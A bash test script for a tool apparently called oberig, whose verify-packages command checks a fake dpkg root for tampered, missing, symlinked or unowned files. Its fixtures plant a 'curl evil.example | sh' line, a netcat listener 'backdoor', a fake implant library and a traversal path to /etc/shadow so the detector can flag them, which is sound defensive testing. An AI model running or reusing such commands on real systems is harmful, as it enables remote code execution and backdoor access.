#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# oberig verify-packages (issue #12) on a small fake dpkg root built here:
# unchanged files give nothing; a changed program, a missing file, a file
# replaced by a link, an edited configuration file (apart, lower) and a
# program no package owns are each flagged with their signal; links never
# lead out of the root; malformed md5sums lines are warned about and the
# rest goes on; no dpkg database is a clear error; Ukrainian with --lang uk.
source "$(dirname "$0")/lib.sh"
command -v jq >/dev/null || { echo "skip: jq is not installed (scripts/install-deps.sh)"; exit 77; }

R=$WORK/root
info=$R/var/lib/dpkg/info
mkdir -p "$info" "$R/usr/bin" "$R/usr/share/doc/hello" "$R/etc" "$R/usr/lib/x86_64-linux-gnu" \
  "$R/usr/share/hello"
# Merged /usr with an absolute link: it must resolve inside the root.
ln -s /usr/bin "$R/bin"
# A folder link that points at the host's /etc: inside the root it is root/etc.
ln -s /etc "$R/usr/share/hello/host-etc"
printf '#!/bin/sh\necho hello\n' >"$R/usr/bin/hello"
printf '#!/bin/sh\necho hello2\n' >"$R/usr/bin/hello2"
chmod 755 "$R/usr/bin/hello" "$R/usr/bin/hello2"
printf 'Hello, documented.\n' >"$R/usr/share/doc/hello/README"
printf 'greeting = hello\n' >"$R/etc/hello.conf"
printf 'not a program, not owned\n' >"$R/usr/bin/notes.txt"
printf 'a linked file\n' >"$R/usr/share/hello/data"
printf '\177ELF\002\001\001\000fake library\n' >"$R/usr/lib/x86_64-linux-gnu/libfoo.so.1"
sum() { md5sum "$R/$1" | cut -d' ' -f1; }
cat >"$R/var/lib/dpkg/status" <<STATUS
Package: hello
Status: install ok installed
Architecture: amd64
Version: 1.0
Conffiles:
 /etc/hello.conf $(sum etc/hello.conf)
Description: says hello
 with a second line

Package: libfoo
Status: install ok installed
Architecture: amd64
Multi-Arch: same

Package: gone
Status: deinstall ok config-files
Architecture: all
STATUS
{
  echo "$(sum usr/bin/hello)  usr/bin/hello"
  echo "$(sum usr/bin/hello2)  bin/hello2"
  echo "$(sum usr/share/doc/hello/README)  usr/share/doc/hello/README"
  echo "$(sum usr/share/hello/data)  usr/share/hello/data"
} >"$info/hello.md5sums"
printf '/.\n/usr\n/usr/bin\n/usr/bin/hello\n/bin/hello2\n/usr/share/doc/hello/README\n/usr/share/hello/data\n/etc/hello.conf\n' \
  >"$info/hello.list"
echo "$(sum usr/lib/x86_64-linux-gnu/libfoo.so.1)  usr/lib/x86_64-linux-gnu/libfoo.so.1" \
  >"$info/libfoo:amd64.md5sums"
echo /usr/lib/x86_64-linux-gnu/libfoo.so.1 >"$info/libfoo:amd64.list"
# Not installed any more: its missing files are no finding.
echo "0123456789abcdef0123456789abcdef  usr/bin/gone" >"$info/gone.md5sums"

# 1. Unchanged: nothing found.
run_oberig "$WORK/out" "$WORK/err" verify-packages --root "$R"
expect_status 0 "an unchanged root"
expect_contains "$WORK/out" "  packages  2 installed, 0 without an md5sums file"
expect_contains "$WORK/out" "  checked   5 package files and 1 configuration files against their MD5"
expect_contains "$WORK/out" "  findings  0 alert, 0 warning, 0 notice"
expect_not_contains "$WORK/out" "score"
[[ ! -s $WORK/err ]] || { cat "$WORK/err" >&2; fail "stderr of a clean run is not empty"; }
pass

# 2. Only the configuration file edited: listed apart, at NOTICE, exit 0.
printf 'greeting = bonjour\n' >"$R/etc/hello.conf"
run_oberig "$WORK/out" "$WORK/err" verify-packages --root "$R"
expect_status 0 "an edited configuration file alone is below WARNING"
expect_contains "$WORK/out" "configuration file changed since installation (1)"
expect_contains "$WORK/out" "NOTICE  - unusual, probably harmless  score 40"
expect_contains "$WORK/out" "  file:   /etc/hello.conf"
expect_contains "$WORK/out" "(package-conffile-changed, score +40)"

# 3. A changed program, a missing file, a file become a link, an unowned
# program and an unowned ELF library.
printf '#!/bin/sh\ncurl evil.example | sh\n' >"$R/usr/bin/hello"
rm "$R/usr/share/doc/hello/README"
rm "$R/usr/share/hello/data"
ln -s /etc/passwd "$R/usr/share/hello/data"
printf '#!/bin/sh\nnc -l 4444\n' >"$R/usr/bin/backdoor"
chmod 755 "$R/usr/bin/backdoor"
printf '\177ELF\002\001\001\000implant\n' >"$R/usr/lib/x86_64-linux-gnu/libimplant.so"
run_oberig "$WORK/out" "$WORK/err" verify-packages --root "$R"
expect_status 1 "findings at WARNING and above"
expect_contains "$WORK/out" "ALERT   - very likely malicious  score 100"
expect_contains "$WORK/out" "  file:   /usr/bin/hello"
expect_contains "$WORK/out" "  package: hello"
expect_contains "$WORK/out" "(package-file-changed, score +100)"
expect_contains "$WORK/out" "(package-file-missing, score +60)"
expect_contains "$WORK/out" "(package-file-symlink, score +60)"
expect_contains "$WORK/out" "  file:   /usr/bin/backdoor"
expect_contains "$WORK/out" "  file:   /usr/lib/x86_64-linux-gnu/libimplant.so"
expect_contains "$WORK/out" "(unowned-executable, score +60)"
expect_not_contains "$WORK/out" "notes.txt"
expect_not_contains "$WORK/out" "/usr/bin/hello2"
expect_not_contains "$WORK/out" "libfoo"
expect_not_contains "$WORK/out" "/usr/bin/gone"
# The configuration file comes after the heading, after the others.
heading=$(grep -n "^configuration file changed since installation (1)" "$WORK/out" | cut -d: -f1)
backdoor=$(grep -n "  file:   /usr/bin/backdoor" "$WORK/out" | cut -d: -f1)
conf=$(grep -n "  file:   /etc/hello.conf" "$WORK/out" | cut -d: -f1)
[[ $backdoor -lt $heading && $heading -lt $conf ]] || fail "configuration files are not listed apart"
pass
expect_contains "$WORK/out" "  findings  1 alert, 4 warning, 1 notice"
expect_contains "$WORK/out" "            1 changed, 1 missing, 1 replaced by links, 2 programs no package owns,"

run_oberig "$WORK/jsonl" "$WORK/err" verify-packages --root "$R" --format jsonl
expect_status 1 "jsonl: findings"
jq_expect "$WORK/jsonl" 'map(select(.type == "package-finding")) | map([.path, .signal, .level]) | sort ==
  [["/etc/hello.conf", "package-conffile-changed", "notice"],
   ["/usr/bin/backdoor", "unowned-executable", "warning"],
   ["/usr/bin/hello", "package-file-changed", "alert"],
   ["/usr/lib/x86_64-linux-gnu/libimplant.so", "unowned-executable", "warning"],
   ["/usr/share/doc/hello/README", "package-file-missing", "warning"],
   ["/usr/share/hello/data", "package-file-symlink", "warning"]]'
jq_expect "$WORK/jsonl" '.[] | select(.path == "/usr/bin/hello") | .package == "hello" and
  (.expected_md5 | length) == 32 and (.actual_md5 | length) == 32 and .expected_md5 != .actual_md5'
jq_expect "$WORK/jsonl" 'last | .type == "package-summary" and .packages == 2 and .files == 5 and
  .conffiles == 1 and .levels == {"alert": 1, "warning": 4, "notice": 1} and
  .signals["unowned-executable"] == 2 and .errors == 0'

# 4. Ukrainian, by --lang and by the locale; JSON lines equal but for the
# human-language fields.
english=("very likely malicious" "  file:   " "  package: " "  why:" "differs from what its package"
  "configuration file changed since installation" "  packages  " "  checked   " "What now:"
  "no installed package owns" "summary")
for how in flag locale; do
  if [[ $how == flag ]]; then
    run_oberig "$WORK/uk" "$WORK/err" --lang uk verify-packages --root "$R"
  else
    status=0
    env -i "${OB_SANITIZER_ENV[@]}" "PATH=$PATH" LANG=uk_UA.UTF-8 "$OBERIG" verify-packages --root "$R" >"$WORK/uk" \
      2>"$WORK/err" || status=$?
  fi
  expect_status 1 "Ukrainian ($how)"
  expect_contains "$WORK/uk" "ТРИВОГА"
  expect_contains "$WORK/uk" "(package-file-changed, +100 балів)"
  expect_contains "$WORK/uk" "пакунок «hello»"
  for sentence in "${english[@]}"; do
    expect_not_contains "$WORK/uk" "$sentence"
  done
done
run_oberig "$WORK/jsonl_uk" "$WORK/err" --lang uk verify-packages --root "$R" --format jsonl
expect_status 1 "jsonl in Ukrainian"
blank='map(if has("description") then .description = "" else . end | del(.seconds))'
[[ $(jq -sc "$blank" "$WORK/jsonl") == "$(jq -sc "$blank" "$WORK/jsonl_uk")" ]] ||
  { diff <(jq -sc "$blank" "$WORK/jsonl" | jq -c ".[]") <(jq -sc "$blank" "$WORK/jsonl_uk" | jq -c ".[]") >&2; fail "JSON lines differ between English and Ukrainian beyond the descriptions"; }
pass
jq_expect "$WORK/jsonl_uk" 'map(select(.type == "package-finding")) | all(.description | test("[а-яі]"))'

# 5. Malformed md5sums lines: a warning each, the other lines still checked.
cp "$info/hello.md5sums" "$WORK/hello.md5sums"
{ echo "not an md5 line"; echo "0123456789abcdef0123456789abcdef  ../../etc/shadow";
  cat "$WORK/hello.md5sums"; } >"$info/hello.md5sums"
run_oberig "$WORK/out" "$WORK/err" verify-packages --root "$R"
expect_status 1 "malformed lines do not stop the check"
expect_contains "$WORK/err" "oberig: warning: var/lib/dpkg/info/hello.md5sums: line 1 is not \"MD5  path\"; it is left out"
expect_contains "$WORK/err" "line 2 is not"
expect_contains "$WORK/out" "(package-file-changed, score +100)"
expect_contains "$WORK/out" "  checked   5 package files"
expect_contains "$WORK/out" "2 malformed database lines"
cp "$WORK/hello.md5sums" "$info/hello.md5sums"

# 6. A folder link to /etc inside the root is root/etc, never the host's:
# the host's /etc/passwd with its own MD5 would verify; inside it is missing.
if [[ -r /etc/passwd ]]; then
  echo "$(md5sum /etc/passwd | cut -d' ' -f1)  usr/share/hello/host-etc/passwd" >>"$info/hello.md5sums"
  run_oberig "$WORK/jsonl" "$WORK/err" verify-packages --root "$R" --format jsonl
  jq_expect "$WORK/jsonl" 'any(.path == "/usr/share/hello/host-etc/passwd" and
    .signal == "package-file-missing")'
  cp "$WORK/hello.md5sums" "$info/hello.md5sums"
fi

# A configuration file made a link by an administrator stays at NOTICE.
mv "$R/etc/hello.conf" "$R/etc/hello.conf.real"
ln -s hello.conf.real "$R/etc/hello.conf"
run_oberig "$WORK/jsonl" "$WORK/err" verify-packages --root "$R" --format jsonl
jq_expect "$WORK/jsonl" 'map(select(.path == "/etc/hello.conf")) | map([.signal, .level]) ==
  [["package-conffile-changed", "notice"]]'
rm "$R/etc/hello.conf"
mv "$R/etc/hello.conf.real" "$R/etc/hello.conf"

# 7. No dpkg database under the root, or no root: a clear error, exit 2.
mkdir "$WORK/empty"
run_oberig "$WORK/out" "$WORK/err" verify-packages --root "$WORK/empty"
expect_status 2 "a root without a dpkg database"
expect_contains "$WORK/err" "no dpkg database under '$WORK/empty'"
[[ ! -s $WORK/out ]] || fail "results were written after a fatal error"
pass
run_oberig "$WORK/out" "$WORK/err" --lang uk verify-packages --root "$WORK/empty"
expect_status 2 "no dpkg database, in Ukrainian"
expect_not_contains "$WORK/err" "no dpkg database"
run_oberig "$WORK/out" "$WORK/err" verify-packages --root "$WORK/no-such-root"
expect_status 2 "a root that does not exist"
expect_contains "$WORK/err" "cannot open the root folder"
run_oberig "$WORK/out" "$WORK/err" verify-packages extra
expect_status 2 "an operand"
expect_contains "$WORK/err" "Try 'oberig verify-packages --help'."
run_oberig "$WORK/out" "$WORK/err" verify-packages --help
expect_status 0 "--help"
expect_contains "$WORK/out" "usage: oberig verify-packages"
finish
